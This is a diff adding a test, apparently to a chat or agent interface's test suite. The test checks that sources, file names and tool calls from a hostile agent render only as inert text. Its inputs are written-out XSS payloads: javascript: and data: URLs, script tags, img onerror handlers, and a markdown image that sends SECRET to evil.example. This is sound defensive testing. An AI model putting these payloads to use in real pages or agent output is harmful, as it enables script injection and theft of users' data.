@@ -155,3 +155,16 @@ test('a message that is damaged on the server’s disk says so in its place, the
   expect(said).toHaveLength(messages.length)
   for (const one of said) expect(one).toContain('This message is damaged')
 })
+
+test('what a hostile agent calls a source, a file or a tool is text: no link runs a script, nothing is fetched, nothing is pressed for the person', async () => {
+  const { story, shows } = await watch()
+  const urls = ['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'https://good.example/> <img src=x onerror=alert(1)> ![x](https://evil.example/?q=SECRET) <x']
+  for (const [i, url] of urls.entries()) story.part(`s${i}`, 'source', { title: '<b>', url })
+  story.part('f1', 'file', { name: '<img src=x onerror=alert(1)>' })
+  story.part('t1', 'tool', { name: '<script>alert(1)</script>', call: 'c1' })
+  story.delta('t1', '{"url": "javascript:alert(1)"}', 'input')
+  await shows()
+  expect(host.element.querySelectorAll('script, iframe, object, embed, img, form, meta, base')).toHaveLength(0)
+  for (const link of host.element.querySelectorAll('a')) expect(link.getAttribute('href')).toMatch(/^(https?:|\/|#)/)
+  for (const element of host.element.querySelectorAll('*')) for (const { name } of element.attributes) expect(name).not.toMatch(/^on/)
+})
